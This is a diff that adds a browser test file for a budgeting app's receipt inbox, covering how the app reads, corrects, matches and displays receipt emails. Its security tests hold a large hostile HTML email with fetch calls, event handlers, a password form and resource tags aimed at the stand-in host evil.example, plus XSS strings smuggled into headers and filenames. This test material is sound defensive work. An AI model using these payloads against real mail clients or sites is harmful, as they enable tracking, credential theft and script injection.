@@ -1,0 +1,434 @@
+// The inbox as a person uses it, and mail that is made to do harm when it is looked at: nothing of it runs, nothing is asked of
+// anybody elsewhere, and what it calls itself is text.
+
+import type { BrowserContext, Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
+import { look, sample, signedInState, startTributary, type Tributary } from "./tributary.ts";
+
+let tributary: Tributary;
+let session: Awaited<ReturnType<BrowserContext["storageState"]>>;
+
+beforeAll(async () => {
+  tributary = await startTributary();
+  session = await signedInState(tributary);
+});
+
+afterEach(async () => {
+  await tributary.leave();
+});
+
+afterAll(async () => {
+  await tributary.close();
+});
+
+interface Shown {
+  readonly id: string;
+  readonly state: string;
+  readonly reason: string | null;
+  readonly subject: string | null;
+  readonly receipts: readonly { readonly state: string; readonly merchant: string | null; readonly total: string | null; readonly currency: string | null; readonly order_number: string | null; readonly account_id: number | null; readonly corrected: readonly string[] }[];
+}
+
+/** Brings a message and waits until it was read. */
+async function bring(raw: string): Promise<string> {
+  const response = await fetch(`${tributary.origin}/api/inbox`, {
+    method: "POST",
+    headers: { authorization: "Bearer local-token-of-the-browser-tests-0123456789", "content-type": "message/rfc822" },
+    body: raw,
+  });
+  const { id } = (await response.json()) as Shown;
+  await settled(id);
+  return id;
+}
+
+async function settled(id: string): Promise<Shown> {
+  for (let round = 0; round < 300; round += 1) {
+    const message = await shown(id);
+    if (message.state !== "received" && message.state !== "reading") return message;
+    await new Promise((resolve) => setTimeout(resolve, 50));
+  }
+  throw new Error("the message is not read");
+}
+
+async function shown(id: string): Promise<Shown> {
+  return (await (await tributary.call(`/api/inbox/${id}`)).json()) as Shown;
+}
+
+interface Mail {
+  readonly from?: string;
+  readonly subject: string;
+  readonly text?: string;
+  readonly html?: string;
+  readonly attachment?: { readonly name: string; readonly type: string; readonly text: string };
+}
+
+let made = 0;
+
+function mail({ from = "Harbour Books <orders@harbour.example>", subject, text, html, attachment }: Mail): string {
+  made += 1;
+  const body = html === undefined ? `Content-Type: text/plain; charset=utf-8\r\n\r\n${text ?? ""}\r\n` : `Content-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`;
+  const head = `From: ${from}\r\nTo: ada@mail.example\r\nSubject: ${subject}\r\nDate: Tue, 20 Oct 2026 14:32:08 +0000\r\nMessage-ID: <${made}@harbour.example>\r\nMIME-Version: 1.0\r\n`;
+  if (attachment === undefined) return head + body;
+  const { name, type, text: content } = attachment;
+  return `${head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n${body}--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${content}\r\n--b--\r\n`;
+}
+
+async function fits(page: Page): Promise<number> {
+  return page.evaluate<number>("document.documentElement.scrollWidth - innerWidth");
+}
+
+const TEA = mail({
+  from: "Tidewater Tea <orders@tidewater.example>",
+  subject: "Your receipt for order TW-20999",
+  html: "<p>Thank you for your order!</p><p>Order number: <b>TW-20999</b><br>Date: October 20, 2026</p><table><tr><td>1 × The Tide Tables</td><td>USD 38.35</td></tr><tr><td>Subtotal</td><td>USD 38.35</td></tr><tr><td>Tax</td><td>USD 2.42</td></tr><tr><td><b>Total</b></td><td><b>USD 40.77</b></td></tr></table><p>Charged to Visa ending in 4417.</p>",
+});
+
+test("an empty inbox says how to begin, and a message brought as a file is read and shown", async () => {
+  const { page, complaints } = await tributary.visit({ storageState: session });
+
+  await page.goto("/inbox");
+  await page.getByText("Nothing has come yet").waitFor();
+  await look(page, "70-inbox-empty");
+  await page.getByText("Bring a message as a file").click();
+  await page.getByLabel("A saved message").setInputFiles(sample("receipt.eml"));
+  await page.getByRole("button", { name: "Read it", exact: true }).click();
+  await page.waitForURL("**/inbox/*");
+  await page.getByRole("heading", { name: "What it says" }).waitFor();
+  await look(page, "71-inbox-message");
+
+  const charge = await page.getByRole("region", { name: "What it says" }).textContent();
+  expect(charge).toContain("\u221240.77");
+  expect(charge).toContain("TW-20461");
+  expect(charge).toContain("20 Oct 2026");
+  expect(complaints).toEqual([]);
+});
+
+for (const [name, options] of [
+  ["desktop", {}],
+  ["phone", { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true }],
+  ["dark", { colorScheme: "dark" }],
+  ["plain", { javaScriptEnabled: false }],
+] as const) {
+  test(`each value leads to where it stands in the message (${name})`, async () => {
+    const id = await bring(TEA);
+    const { page, complaints } = await tributary.visit({ storageState: session, ...options });
+
+    await page.goto(`/inbox/${id}`);
+    await page.getByRole("region", { name: "What it says" }).getByRole("link", { name: /40\.77/ }).click();
+    const mark = page.locator("mark:target");
+    expect(await mark.textContent()).toContain("40.77");
+    expect(await page.frameLocator("iframe").locator("body").textContent()).toContain("The Tide Tables");
+    await look(page, `72-inbox-marks-${name}`);
+    const wide = await fits(page);
+    await page.goto("/inbox");
+    await look(page, `73-inbox-list-${name}`);
+    await page.goto("/inbox/unmatched");
+    await page.getByRole("link", { name: /Tidewater/ }).waitFor();
+
+    expect(wide).toBeLessThanOrEqual(0);
+    expect(await fits(page)).toBeLessThanOrEqual(0);
+    expect(complaints).toEqual([]);
+  });
+}
+
+for (const javaScriptEnabled of [true, false]) {
+  test(`what is not certain is set right in the form, ${javaScriptEnabled ? "with" : "without"} scripts`, async () => {
+    const id = await bring(mail({ from: `Corner <orders@corner${javaScriptEnabled ? "" : "2"}.example>`, subject: "Your receipt", text: `Thank you for your purchase.\r\n\r\nOrder number: C-${javaScriptEnabled ? 1 : 2}77310\r\nTotal: $18.20\r\nPaid by card ending in 4417.` }));
+    const before = await shown(id);
+    const { page, complaints } = await tributary.visit({ storageState: session, javaScriptEnabled });
+
+    await page.goto(`/inbox/${id}`);
+    await look(page, javaScriptEnabled ? "74-inbox-asks" : "75-inbox-asks-plain");
+    const form = page.locator("form.correct");
+    await form.getByLabel("Currency").fill("XQQ");
+    await form.getByLabel("Account").selectOption({ index: 1 });
+    await form.getByRole("button", { name: "Save, and wait for the bank’s row" }).click();
+    await page.getByRole("alert").waitFor();
+    const refused = await page.getByRole("alert").textContent();
+    const typed = await form.getByLabel("Currency").inputValue();
+    await look(page, javaScriptEnabled ? "76-inbox-refused" : "77-inbox-refused-plain");
+    await form.getByLabel("Currency").fill("cad");
+    await form.getByRole("button", { name: "Save, and wait for the bank’s row" }).click();
+    await page.getByText("Waiting for the bank’s row.").waitFor();
+
+    expect(before).toMatchObject({ state: "review", reason: "ambiguous_currency" });
+    expect(refused).toContain("The currency is one of the codes of ISO 4217");
+    expect(typed).toBe("XQQ");
+    const after = await shown(id);
+    expect(after.receipts).toMatchObject([{ state: "waiting", total: "18.20", currency: "cad", corrected: ["currency", "account_id"] }]);
+    // The first refusal of a form is an answer of its own, which browsers report on their console.
+    expect(complaints.filter((line) => !line.includes("status of 400"))).toEqual([]);
+  });
+}
+
+test("a receipt is ignored, taken back, read again and deleted", async () => {
+  const id = await bring(mail({ subject: "Your receipt", text: "Receipt\r\n\r\nOrder number: H-20871\r\nTotal: EUR 21.00" }));
+  const { page, complaints } = await tributary.visit({ storageState: session });
+
+  await page.goto(`/inbox/${id}`);
+  await page.getByRole("button", { name: "Ignore it" }).click();
+  await page.getByText("Nothing for the budget.").waitFor();
+  await page.getByText("It is a payment after all").click();
+  await page.getByRole("button", { name: "Save, and wait for the bank’s row" }).click();
+  await page.getByText("Waiting for the bank’s row.").waitFor();
+  await page.getByRole("button", { name: "Read it again" }).click();
+  await page.getByText("Waiting for the bank’s row.").waitFor();
+  await page.getByText("Delete…").click();
+  await page.getByRole("button", { name: "Delete the message" }).click();
+  await page.waitForURL("**/inbox");
+
+  expect((await tributary.call(`/api/inbox/${id}`)).status).toBe(404);
+  expect(complaints).toEqual([]);
+});
+
+test("several receipts of one mail stand apart, each beside its own text", async () => {
+  const inner = (subject: string, number: string, total: string) =>
+    `--b\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\nFrom: Harbour Books <orders@harbour.example>\r\nTo: ada@mail.example\r\nSubject: ${subject}\r\nDate: Tue, 20 Oct 2026 14:32:08 +0000\r\nMessage-ID: <${number}@harbour.example>\r\nContent-Type: text/plain\r\n\r\nReceipt\r\n\r\nOrder number: ${number}\r\nTotal: ${total}\r\n\r\n`;
+  const raw = `From: Ada <ada@mail.example>\r\nTo: receipts@tributary.localhost\r\nSubject: Two receipts\r\nDate: Tue, 20 Oct 2026 15:00:00 +0000\r\nMessage-ID: <two@mail.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHere they are.\r\n${inner("First receipt", "HB-70011", "EUR 11.00")}${inner("Second receipt", "HB-70012", "EUR 22.00")}--b--\r\n`;
+  const id = await bring(raw);
+  const { page, complaints } = await tributary.visit({ storageState: session });
+
+  await page.goto(`/inbox/${id}`);
+  await look(page, "78-inbox-several");
+  const first = await page.getByRole("region", { name: /^Charge 1/ }).textContent();
+  const second = await page.getByRole("region", { name: /^Charge 2/ }).textContent();
+  await page.getByRole("region", { name: /^Charge 2/ }).getByRole("button", { name: "Ignore it" }).click();
+  await page.waitForURL(`**/inbox/${id}`);
+
+  expect(first).toContain("11.00 EUR");
+  expect(second).toContain("22.00 EUR");
+  expect((await shown(id)).receipts.map(({ state }) => state)).toEqual(["waiting", "ignored"]);
+  expect(complaints).toEqual([]);
+});
+
+test("a forwarding confirmation shows its code and its link as text, and nobody follows it", async () => {
+  const link = "https://mail-settings.google.com/mail/vf-%5BANGjdJ_planted%5D-token";
+  const raw = mail({
+    from: "Gmail Team <forwarding-noreply@google.com>",
+    subject: "(#482913075) Gmail Forwarding Confirmation - Receive Mail from ada@gmail.example",
+    text: `ada@gmail.example has requested to automatically forward mail to your email address.\r\nConfirmation code: 482913075\r\n\r\nTo allow it, please click the link below to confirm the request:\r\n\r\n${link}\r\n`,
+  });
+  const id = await bring(raw);
+  const { page, context, complaints } = await tributary.visit({ storageState: session });
+  const asked: string[] = [];
+  context.on("request", (request) => asked.push(request.url()));
+
+  await page.goto(`/inbox/${id}`);
+  const section = page.getByRole("region", { name: "A mail program asks whether it may forward here" });
+  await section.waitFor();
+  await look(page, "79-inbox-confirmation");
+
+  expect(await section.locator("code").allTextContents()).toEqual(["482913075", link]);
+  expect(await page.evaluate<string[]>("[...document.querySelectorAll('main a')].map(({ href }) => href).filter((href) => !href.startsWith(location.origin))")).toEqual([]);
+  expect(asked.filter((url) => !url.startsWith(tributary.origin))).toEqual([]);
+  expect((await shown(id)).reason).toBe("forwarding_confirmation");
+  expect(complaints).toEqual([]);
+});
+
+const EVIL = "https://evil.example";
+const HOSTILE = `<!doctype html><html><head>
+<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><link rel="prefetch" href="${EVIL}/prefetch"><link rel="dns-prefetch" href="${EVIL}"><link rel="preconnect" href="${EVIL}"><link rel="stylesheet" href="${EVIL}/sheet.css">
+<style>@import url(${EVIL}/import.css); body { background: url(${EVIL}/style.png) } @font-face { font-family: x; src: url(${EVIL}/font.woff) } p { font-family: x }</style>
+<script>parent.document.title = "taken"; fetch("${EVIL}/script")</script></head>
+<body background="${EVIL}/body.png" onload="fetch('${EVIL}/onload')">
+<p style="background-image: url(${EVIL}/css.png)">Receipt</p><p style="background:u\\72l(${EVIL}/escaped.png)">Order number: E-4455</p>
+<img src="${EVIL}/pixel.png" srcset="${EVIL}/2x.png 2x" onerror="fetch('${EVIL}/onerror')"><picture><source srcset="${EVIL}/source.png"><img alt="logo"></picture>
+<table background="${EVIL}/table.png"><tr><td background="${EVIL}/td.png">Total: EUR 9.99</td></tr></table>
+<a href="javascript:fetch('${EVIL}/href')" ping="${EVIL}/ping" id="lure">Pay now</a><a href="${EVIL}/away" target="_top">away</a>
+<form action="${EVIL}/form" method="post"><input name="password" autofocus><button id="send">Sign in</button></form>
+<svg onload="fetch('${EVIL}/svg')"><image href="${EVIL}/svg.png"/><use href="${EVIL}/use.svg#x"/><a href="${EVIL}/svg-a"><text>x</text></a><foreignObject><img src="${EVIL}/foreign.png"></foreignObject></svg>
+<math><mtext><img src="${EVIL}/math.png"></mtext></math>
+<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<img src=${EVIL}/srcdoc.png>"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><applet code="${EVIL}/applet"></applet>
+<video src="${EVIL}/video" poster="${EVIL}/poster.png" autoplay></video><audio src="${EVIL}/audio" autoplay></audio>
+<template><img src="${EVIL}/template.png"></template><noscript><img src="${EVIL}/noscript.png"></noscript>
+<div style="position:fixed;inset:0;z-index:9999">Cover</div><input type="image" src="${EVIL}/input.png"><link rel="icon" href="${EVIL}/icon.png">
+<xmp><img src="${EVIL}/xmp.png"></xmp><textarea><img src="${EVIL}/textarea.png"></textarea><title><img src="${EVIL}/title.png"></title>
+</body></html>`;
+
+for (const javaScriptEnabled of [true, false]) {
+  test(`a hostile mail asks nobody elsewhere for anything and runs nothing, ${javaScriptEnabled ? "with" : "without"} scripts`, async () => {
+    const attack = "\"><img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>";
+    const raw = mail({
+      from: `"<img src=x onerror=document.title='taken'>" <orders@evil${javaScriptEnabled ? "" : "2"}.example>`,
+      subject: `Receipt ${attack}`,
+      html: HOSTILE,
+      attachment: { name: "<svg onload=document.title='taken'>.html", type: "text/html", text: `<script src="${EVIL}/attached.js"></script>` },
+    });
+    const id = await bring(raw);
+    const { page, context, complaints } = await tributary.visit({ storageState: session, javaScriptEnabled });
+    const asked: string[] = [];
+    context.on("request", (request) => asked.push(request.url()));
+
+    await page.goto(`/inbox/${id}`);
+    const frame = page.frameLocator("iframe");
+    await frame.getByText("Order number: E-4455").waitFor();
+    await frame.getByText("Pay now").click();
+    await page.waitForTimeout(500);
+    await look(page, javaScriptEnabled ? "80-inbox-hostile" : "81-inbox-hostile-plain");
+    await page.goto("/inbox");
+    const listed = await page.locator("table.inbox").textContent();
+    await page.goto("/inbox/unmatched");
+
+    expect(asked.filter((url) => !url.startsWith(`${tributary.origin}/`))).toEqual([]);
+    expect(listed).toContain("<script>document.title='taken'</script>");
+    expect(await page.title()).toBe("Receipts without a transaction · Tributary");
+    expect(context.pages()).toHaveLength(1);
+    expect(complaints).toEqual([]);
+  });
+}
+
+test("the frame of a mail has no scripts, no forms, no origin and a policy of its own, wherever it is opened", async () => {
+  const id = await bring(mail({ subject: "Receipt once more", html: HOSTILE }));
+  const { page, context, complaints } = await tributary.visit({ storageState: session });
+  const asked: string[] = [];
+  context.on("request", (request) => asked.push(request.url()));
+
+  const answer = await page.goto(`/api/inbox/${id}/html`);
+  const headers = answer?.headers() ?? {};
+
+  expect(headers["content-security-policy"]).toContain("default-src 'none'");
+  expect(headers["content-security-policy"]).toMatch(/sandbox(;|$)/);
+  expect(await page.locator("script, form, img, iframe, object, embed, svg, link, base, a, input, video").count()).toBe(0);
+  expect(asked.filter((url) => !url.startsWith(`${tributary.origin}/`))).toEqual([]);
+  expect(complaints).toEqual([]);
+  await page.goto(`/inbox/${id}`);
+  expect(await page.locator("iframe").first().getAttribute("sandbox")).toBe("");
+});
+
+test("addresses: what becomes of receipts is chosen per address, and the page says how to get them here", async () => {
+  const { page, complaints } = await tributary.visit({ storageState: session });
+
+  await page.goto("/connections#addresses");
+  await page.getByLabel("Who will send to it").fill("the bookshop");
+  await page.getByRole("button", { name: "Make an address" }).click();
+  await page.getByLabel("What becomes of receipts for the bookshop").click();
+  await page.getByLabel("A receipt that comes before the bank’s row").selectOption("insert");
+  await page.locator("form[action$='/options']").getByLabel("Account").selectOption({ index: 1 });
+  await page.getByRole("button", { name: "Keep it so" }).click();
+  await page.getByText(/^inserted at once, into /).waitFor();
+  for (const name of ["Gmail", "Try it on this machine"]) await page.locator(".programs summary").getByText(name, { exact: true }).click();
+  await look(page, "82-addresses");
+  const wide = await fits(page);
+  await page.setViewportSize({ width: 390, height: 844 });
+  await look(page, "83-addresses-phone");
+
+  const addresses = (await (await tributary.call("/api/addresses")).json()) as { addresses: { address: string; mode: string; account_id: number | null }[] };
+  expect(addresses.addresses).toMatchObject([{ mode: "insert", account_id: expect.any(Number) }]);
+  expect(await page.locator(".programs").textContent()).toContain(encodeURIComponent(addresses.addresses[0]?.address ?? "none"));
+  expect(wide).toBeLessThanOrEqual(0);
+  expect(await fits(page)).toBeLessThanOrEqual(0);
+  expect(complaints).toEqual([]);
+});
+
+test("the navigation counts what needs a person, on every page", async () => {
+  await bring(mail({ from: "Fjord <post@fjord.example>", subject: "Receipt", text: "Receipt\r\nTotal: 120 kr\r\nOrder number: F-88112" }));
+  const { page, complaints } = await tributary.visit({ storageState: session });
+  const counts = (await (await tributary.call("/api/inbox/counts")).json()) as { review: number };
+
+  await page.goto("/imports");
+
+  expect(counts.review).toBeGreaterThan(0);
+  expect(await page.getByRole("navigation", { name: "Pages" }).getByRole("link", { name: /Inbox/ }).textContent()).toBe(`Inbox ${counts.review} to look at`);
+  await page.goto("/inbox?state=review");
+  expect(await page.locator("table.inbox tbody tr").count()).toBe(counts.review);
+  expect(complaints).toEqual([]);
+});
+
+/** Imports a statement and waits until it rests. */
+async function imported(account: string, csv: string): Promise<string> {
+  const response = await fetch(`${tributary.origin}/api/imports?account=${account}`, { method: "POST", headers: { authorization: "Bearer local-token-of-the-browser-tests-0123456789" }, body: csv });
+  const { id } = (await response.json()) as { id: string };
+  for (let round = 0; round < 300; round += 1) {
+    const { state } = (await (await tributary.call(`/api/imports/${id}`)).json()) as { state: string };
+    if (state === "done") return id;
+    await new Promise((resolve) => setTimeout(resolve, 50));
+  }
+  throw new Error("the import is not done");
+}
+
+async function until(id: string, state: string): Promise<Shown> {
+  for (let round = 0; round < 300; round += 1) {
+    const message = await shown(id);
+    if (message.state === state) return message;
+    await new Promise((resolve) => setTimeout(resolve, 50));
+  }
+  throw new Error(`the message is ${(await shown(id)).state}, not ${state}`);
+}
+
+test("a receipt meets the row that an import brings, is shown with it on both pages, and is taken back", async () => {
+  const id = await bring(mail({ from: "Juniper Garden <orders@juniper.example>", subject: "Your receipt from Juniper Garden", text: "Receipt\r\n\r\nOrder number: JG-55012\r\nDate: 2026-10-20\r\nTotal: USD 61.35" }));
+  const run = await imported("Checking", "Date,Description,Amount\n2026-10-19,Salary,2000.00\n2026-10-21,JUNIPER GARDEN 0441,-61.35\n2026-10-22,Rent,-900.00\n");
+  await until(id, "matched");
+  const { page, complaints } = await tributary.visit({ storageState: session });
+
+  await page.goto(`/inbox/${id}`);
+  const met = await page.getByRole("region", { name: /^What it says/ }).textContent();
+  const evidence = await page.getByRole("list", { name: "What speaks for it" }).textContent();
+  await look(page, "84-inbox-matched");
+  await page.goto(`/imports/${run}`);
+  await page.getByRole("region", { name: "Receipts that belong to its transactions" }).getByRole("link", { name: "Juniper Garden" }).click();
+  await page.waitForURL(`**/inbox/${id}#*`);
+  await page.getByRole("button", { name: "Undo: it is not that transaction" }).click();
+  await page.waitForURL(`**/inbox/${id}`);
+  await until(id, "review").catch(() => until(id, "waiting"));
+  await page.reload();
+  await look(page, "85-inbox-taken-back");
+
+  expect(met).toMatch(/In the budget: .*61\.35 USD/);
+  expect(evidence?.length).toBeGreaterThan(10);
+  expect((await shown(id)).receipts[0]?.state).not.toBe("matched");
+  expect(complaints).toEqual([]);
+});
+
+for (const javaScriptEnabled of [true, false]) {
+  test(`of transactions that it may be a person says which, ${javaScriptEnabled ? "with" : "without"} scripts`, async () => {
+    const [name, amount, number] = javaScriptEnabled ? ["Larkspur Cafe", "23.10", "LC-70441"] : ["Meadow Bakery", "24.20", "MB-70442"];
+    await imported("Checking", `Date,Description,Amount\n2026-10-19,Salary,2000.00\n2026-10-20,${name.toUpperCase()},-${amount}\n2026-10-20,${name.toUpperCase()},-${amount}\n2026-10-22,Rent,-900.00\n`);
+    const id = await bring(mail({ from: `${name} <orders@${number.toLowerCase()}.example>`, subject: `Your receipt from ${name}`, text: `Receipt\r\n\r\nOrder number: ${number}\r\nDate: 2026-10-20\r\nTotal: USD ${amount}` }));
+    await until(id, "review");
+    const { page, complaints } = await tributary.visit({ storageState: session, javaScriptEnabled });
+
+    await page.goto(`/inbox/${id}`);
+    const candidates = page.getByRole("region", { name: "Transactions that it may be" });
+    const texts = await candidates.getByRole("listitem").allTextContents();
+    await look(page, javaScriptEnabled ? "86-inbox-candidates" : "87-inbox-candidates-plain");
+    const accepting = await page.getByRole("button", { name: "Accept it as read" }).count();
+    await candidates.getByRole("button", { name: "It is this one" }).first().click();
+    await page.waitForURL(`**/inbox/${id}`);
+    await until(id, "matched");
+    await page.reload();
+    await page.getByText("Matched with a transaction in the budget.").waitFor();
+
+    expect(texts).toHaveLength(2);
+    // Accepting it would not say which.
+    expect(accepting).toBe(0);
+    expect(texts[0]).toContain(`${amount} USD`);
+    expect(complaints).toEqual([]);
+  });
+}
+
+test("a receipt of a purchase that no bank knows yet is inserted at once, and taken out again", async () => {
+  const id = await bring(mail({ from: "Quarry Tools <orders@quarry.example>", subject: "Your receipt from Quarry Tools", text: "Receipt\r\n\r\nOrder number: QT-88031\r\nDate: 2026-10-20\r\nTotal: USD 77.05" }));
+  const { page, complaints } = await tributary.visit({ storageState: session });
+  const there = async (): Promise<number> => {
+    const answer: { transactions: { amount: string }[] } = JSON.parse(await (await tributary.call("/v2/transactions?start_date=2026-10-20&end_date=2026-10-20")).text());
+    return answer.transactions.filter(({ amount }) => Number(amount) === 77.05).length;
+  };
+
+  await page.goto(`/inbox/${id}`);
+  await page.getByText("Set it right, or insert it now").click();
+  await page.locator("form.correct").getByLabel("Account").selectOption({ label: "Checking (USD)" });
+  await page.getByRole("button", { name: "Save, and insert it now" }).click();
+  await page.waitForURL(`**/inbox/${id}`);
+  await until(id, "inserted");
+  const inserted = await there();
+  await page.reload();
+  await page.getByRole("button", { name: "Undo: take it out of the budget" }).click();
+  await page.waitForURL(`**/inbox/${id}`);
+  for (let round = 0; round < 100 && (await there()) > 0; round += 1) await new Promise((resolve) => setTimeout(resolve, 50));
+
+  expect(inserted).toBe(1);
+  expect(await there()).toBe(0);
+  expect((await shown(id)).receipts[0]?.state).not.toBe("inserted");
+  expect(complaints).toEqual([]);
+});
